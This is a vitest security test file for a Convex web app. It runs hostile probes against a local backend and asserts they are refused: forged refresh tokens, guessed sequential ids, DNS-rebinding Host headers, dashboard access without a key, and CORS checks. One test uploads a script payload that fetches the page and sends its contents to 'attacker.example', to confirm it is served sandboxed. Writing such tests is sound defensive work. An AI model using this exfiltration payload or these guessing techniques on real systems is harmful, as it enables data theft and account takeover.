/**
 * Attacks a hostile probe made through the real Convex client (docs/security/). The refresh
 * token test fails when patches/@convex-dev+auth+*.patch is not applied to node_modules.
 * The convex/ suites hold the full catalogue; these check what reaches a real client.
 */
import { request as httpRequest, type IncomingHttpHeaders } from "node:http";
import { afterAll, beforeAll, expect, it } from "vitest";
import { api } from "../convex/_generated/api";
import type { LocalBackend } from "./server.ts";
import { MESSAGES } from "../convex/model/shared/texts";
import { createEvent, newClient, rejectionData, signedInClient, startTestBackend } from "./test-support.ts";
import type { ConvexClient } from "convex/browser";

let backend: LocalBackend;

beforeAll(async () => {
  backend = await startTestBackend();
});

afterAll(async () => {
  await backend.close();
});

it("an anonymous auth:signIn with a forged refresh token deletes neither the event nor its creator", async () => {
  const creator = await signedInClient(backend.url, "Maria Silva", "maria@exemplo.com");
  const attacker = newClient(backend.url);
  try {
    const eventId = await createEvent(creator);
    const event = await attacker.query(api.events.get, { id: eventId });
    expect(event).not.toBeNull();
    const creatorId = (await creator.query(api.users.me, {}))!._id;

    for (const refreshToken of [`anything|${eventId}`, `anything|${creatorId}`, `${eventId}|${creatorId}`]) {
      expect(await attacker.action(api.auth.signIn, { refreshToken })).toEqual({ tokens: null });
    }

    expect(await attacker.query(api.events.get, { id: eventId })).toEqual(event);
    expect(await creator.query(api.users.me, {})).toMatchObject({ _id: creatorId, name: "Maria Silva" });
  } finally {
    await Promise.all([creator.close(), attacker.close()]);
  }
});

it("paginationOpts abuse and invisible text get the app's Portuguese refusals, not engine errors", async () => {
  const client = await signedInClient(backend.url, "Ana Souza", "ana@exemplo.com");
  try {
    const eventId = await createEvent(client);
    const invalidPage = { code: "INVALID_PAGE", message: MESSAGES.invalidPage };
    for (const paginationOpts of [
      { numItems: 0, cursor: null },
      { numItems: -1, cursor: null },
      { numItems: Number.NaN, cursor: null },
      { numItems: 10, cursor: "not-a-cursor" },
    ]) {
      expect(await rejectionData(client.query(api.events.list, { paginationOpts }))).toEqual(invalidPage);
    }
    const huge = await client.query(api.events.list, { paginationOpts: { numItems: 1e9, cursor: null } });
    expect(huge.page.map((event) => event._id)).toContain(eventId);

    expect(await rejectionData(client.mutation(api.chat.send, { eventId, body: "\u200B\u2060\uFEFF" }))).toEqual({
      code: "INVALID_MESSAGE",
      message: MESSAGES.emptyMessage,
    });
  } finally {
    await client.close();
  }
});

/**
 * The ids an attacker would try after `id` if ids came from a counter: its number plus 1 to
 * `count`, written as wide as it was, with the same table.
 */
function followingIds(id: string, count: number): string[] {
  const [, digits = "", table = ""] = /^(\d+)(.*)$/.exec(id) ?? [];
  return Array.from(
    { length: count },
    (_, step) => `${(BigInt(digits) + BigInt(step + 1)).toString().padStart(digits.length, "0")}${table}`,
  );
}

it("a signed-in person cannot guess the refresh token of whoever signs in next", async () => {
  const attacker = newClient(backend.url);
  const victim = newClient(backend.url);
  try {
    const own = await attacker.action(api.auth.signIn, { provider: "local", params: { name: "Eva Atacante", email: "eva@exemplo.com" } });
    const [refreshTokenId = "", sessionId = ""] = own.tokens!.refreshToken.split("|");
    const signedIn = await victim.action(api.auth.signIn, {
      provider: "local",
      params: { name: "Vera Vítima", email: "vera@exemplo.com" },
    });
    expect(signedIn.tokens).not.toBeNull();

    // A wrong guess naming a real session deletes it, so the two halves advance together:
    // each sign-in writes the same documents, in the same order.
    const sessions = followingIds(sessionId, 5);
    const working: string[] = [];
    for (const [step, guessedToken] of followingIds(refreshTokenId, 5).entries()) {
      const refreshToken = `${guessedToken}|${sessions[step]}`;
      const result = await attacker.action(api.auth.signIn, { refreshToken });
      if (result.tokens !== null && result.tokens !== undefined) working.push(refreshToken);
    }
    expect(working).toEqual([]);
  } finally {
    await Promise.all([attacker.close(), victim.close()]);
  }
});

/** Uploads a one-byte "PNG" through the app's upload URL, returning its storage id. */
async function uploadImage(client: ConvexClient): Promise<string> {
  const uploadUrl = await client.mutation(api.events.generateImageUploadUrl, {});
  const response = await fetch(uploadUrl, { method: "POST", headers: { "Content-Type": "image/png" }, body: "x" });
  return ((await response.json()) as { storageId: string }).storageId;
}

it("nobody can claim the upload of whoever uploaded next by guessing its storage id", async () => {
  const attacker = await signedInClient(backend.url, "Ivo Atacante", "ivo@exemplo.com");
  const owner = await signedInClient(backend.url, "Olga Dona", "olga@exemplo.com");
  try {
    const own = await uploadImage(attacker);
    const theirs = await uploadImage(owner);
    for (const guess of followingIds(own, 5)) {
      await attacker.mutation(api.events.claimImageUpload, { storageId: guess }).catch(() => null);
    }
    expect(await owner.mutation(api.events.claimImageUpload, { storageId: theirs })).toEqual({ accepted: true });
  } finally {
    await Promise.all([attacker.close(), owner.close()]);
  }
});

/** A raw HTTP request, so the test can send any Host header (fetch fixes it to the URL's). */
function rawRequest(
  path: string,
  { host, method = "GET", headers = {}, body }: { host?: string; method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
  const url = new URL(backend.url);
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      { host: url.hostname, port: url.port, path, method, headers: { ...headers, ...(host === undefined ? {} : { Host: host }) } },
      (response) => {
        let text = "";
        response.setEncoding("utf8");
        response.on("data", (chunk: string) => (text += chunk));
        response.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }));
      },
    );
    request.on("error", reject);
    request.end(body);
  });
}

it("the dashboard shows nothing without the admin key: no tables, no documents, no counters", async () => {
  const client = await signedInClient(backend.url, "Dora Dados", "dora@exemplo.com");
  await client.close();
  for (const path of [
    "/",
    "/dashboard/table?component=&table=users",
    "/dashboard/table?component=&table=authRefreshTokens",
    "/dashboard/stats.json",
  ]) {
    const wrongKey = { headers: { Authorization: "Convex apoie-local|0000", Cookie: `apoie_admin_${new URL(backend.url).port}=nope` } };
    for (const attempt of [{}, wrongKey]) {
      const response = await rawRequest(path, attempt);
      expect(response.status, path).toBe(401);
      expect(response.body).not.toContain("dora@exemplo.com");
      expect(response.body).not.toMatch(/authRefreshTokens|"commits"/);
    }
  }
  const wrongInUrl = await rawRequest(`/?key=${encodeURIComponent("apoie-local|0000")}`);
  expect(wrongInUrl.status).toBe(401);
  expect(wrongInUrl.headers["set-cookie"]).toBeUndefined();
});

it("answers no request whose Host is not this machine (DNS rebinding), even with the admin key", async () => {
  const port = new URL(backend.url).port;
  const admin = { Authorization: `Convex ${backend.adminKey}` };
  const call = JSON.stringify({ path: "events:list", args: { paginationOpts: { numItems: 5, cursor: null } }, format: "json" });
  for (const host of [
    `attacker.example:${port}`,
    "attacker.example",
    `127.0.0.1:${Number(port) + 1}`,
    `localhost.attacker.example:${port}`,
  ]) {
    for (const [path, method, body] of [
      ["/", "GET", undefined],
      ["/dashboard/table?component=&table=users", "GET", undefined],
      ["/dashboard/stats.json", "GET", undefined],
      ["/api/query", "POST", call],
    ] as const) {
      const response = await rawRequest(path, { host, method, body, headers: { ...admin, "Content-Type": "application/json" } });
      expect(response.status, `${host} ${path}`).toBe(403);
      expect(response.body).not.toMatch(/"value"|<table|commits/);
    }
    const upgrade = await rawRequest("/api/1.0/sync", {
      host,
      headers: {
        Upgrade: "websocket",
        Connection: "Upgrade",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version": "13",
      },
    });
    expect(upgrade.status, `${host} WebSocket`).toBe(403);
  }
  // The names of this machine, on this port, are answered.
  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`]) {
    expect((await rawRequest("/dashboard/stats.json", { host, headers: admin })).status, host).toBe(200);
  }
});

it("the dashboard, with the key, masks what signs people in: auth tables and fields named like secrets", async () => {
  const client = newClient(backend.url);
  const signIn = await client.action(api.auth.signIn, { provider: "local", params: { name: "Sara Segredo", email: "sara@exemplo.com" } });
  await client.close();
  const [refreshTokenId = "", sessionId = ""] = signIn.tokens!.refreshToken.split("|");
  const admin = { headers: { Authorization: `Convex ${backend.adminKey}` } };
  const pages = ["/"];
  for (const table of ["users", "authAccounts", "authSessions", "authRefreshTokens", "authVerificationCodes", "authVerifiers"]) {
    pages.push(`/dashboard/table?component=&table=${table}`);
  }
  let seenUser = false;
  for (const path of pages) {
    const { status, body } = await rawRequest(path, admin);
    expect(status, path).toBe(200);
    expect(body, path).not.toContain(refreshTokenId);
    expect(body, path).not.toContain(sessionId);
    expect(body, path).not.toContain(process.env.JWT_PRIVATE_KEY!.slice(40, 80));
    if (body.includes("sara@exemplo.com")) seenUser = true;
  }
  // Plain data is still shown.
  expect(seenUser).toBe(true);
});

it("an uploaded HTML file cannot run on the backend's origin: no sniffing, sandboxed, downloaded", async () => {
  const client = await signedInClient(backend.url, "Hugo Html", "hugo@exemplo.com");
  try {
    const uploadUrl = await client.mutation(api.events.generateImageUploadUrl, {});
    const page = "<script>fetch('/').then((r) => r.text()).then((t) => fetch('https://attacker.example/?' + t))</script>";
    for (const contentType of ["text/html", "image/svg+xml", "application/xhtml+xml", ""]) {
      const upload = await fetch(uploadUrl, { method: "POST", headers: contentType ? { "Content-Type": contentType } : {}, body: page });
      const { storageId } = (await upload.json()) as { storageId: string };
      const served = await fetch(`${backend.url}/api/storage/${storageId}`);
      expect(await served.text()).toBe(page);
      expect(served.headers.get("x-content-type-options"), contentType).toBe("nosniff");
      expect(served.headers.get("content-security-policy"), contentType).toMatch(/(^|;)\s*sandbox(;|$)/);
      expect(served.headers.get("content-disposition"), contentType).toMatch(/^attachment/);
    }
    // Images, the app's files, are still shown in place.
    const image = await uploadImage(client);
    const shown = await fetch(`${backend.url}/api/storage/${image}`);
    expect(shown.headers.get("content-type")).toBe("image/png");
    expect(shown.headers.get("content-disposition")).toBeNull();
    expect(shown.headers.get("content-security-policy")).toMatch(/sandbox/);
  } finally {
    await client.close();
  }
});

it("answers the app's cross-origin calls as Convex does, credentials included (the presence goodbye beacon)", async () => {
  const origin = "http://127.0.0.1:5173";
  const preflight = await fetch(`${backend.url}/api/mutation`, {
    method: "OPTIONS",
    headers: { Origin: origin, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type" },
  });
  expect(preflight.status).toBe(204);
  expect(preflight.headers.get("access-control-allow-origin")).toBe(origin);
  expect(preflight.headers.get("access-control-allow-credentials")).toBe("true");
  expect(preflight.headers.get("access-control-allow-headers")).toBe("content-type");
  expect(preflight.headers.get("access-control-allow-methods")).toContain("POST");

  const goodbye = await fetch(`${backend.url}/api/mutation`, {
    method: "POST",
    headers: { Origin: origin, "Content-Type": "application/json" },
    body: JSON.stringify({ path: "presence:disconnect", args: { sessionToken: "gone" } }),
  });
  expect(goodbye.headers.get("access-control-allow-origin")).toBe(origin);
  expect(goodbye.headers.get("access-control-allow-credentials")).toBe("true");
  // The dashboard, which a cookie unlocks, is never readable from another origin.
  const dashboard = await fetch(`${backend.url}/`, { headers: { Origin: origin, Authorization: `Convex ${backend.adminKey}` } });
  expect(dashboard.headers.get("access-control-allow-origin")).toBeNull();
});
